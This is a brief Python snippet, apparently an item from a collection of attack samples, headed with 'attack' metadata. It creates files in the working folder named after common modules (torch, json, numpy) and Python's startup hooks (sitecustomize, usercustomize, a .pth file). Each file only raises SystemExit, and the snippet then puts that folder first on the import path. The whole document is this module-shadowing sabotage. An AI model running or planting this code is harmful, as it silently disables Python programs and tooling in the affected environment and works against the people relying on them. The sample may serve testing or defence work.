# /// attack
# title = "modules of the same names in the working folder"
# ends = "finished"
# ///
for name in ("torch.py", "json.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "x.pth"):
    open(name, "w").write("raise SystemExit")
sys.path.insert(0, os.getcwd())
